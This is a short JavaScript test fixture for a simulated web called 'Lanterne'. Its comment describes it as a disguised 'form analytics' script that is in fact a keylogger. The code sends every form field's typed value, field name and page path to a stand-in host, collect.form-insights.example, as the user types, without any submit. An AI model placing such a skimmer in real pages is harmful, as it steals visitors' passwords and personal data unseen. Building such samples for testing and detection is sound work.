/* Lanterne simulated web: a "form analytics" script written for Lanterne's tests. It sends what the visitor
   types into each field, as they type, whether or not the form is ever submitted: key logging. */
(function () {
  var timers = {};
  document.addEventListener("input", function (e) {
    var el = e.target; if (!el || !el.name) return;
    clearTimeout(timers[el.name]);
    timers[el.name] = setTimeout(function () {
      navigator.sendBeacon("https://collect.form-insights.example/v", JSON.stringify({ f: el.name, v: el.value, u: location.pathname }));
    }, 250);
  }, true);
})();
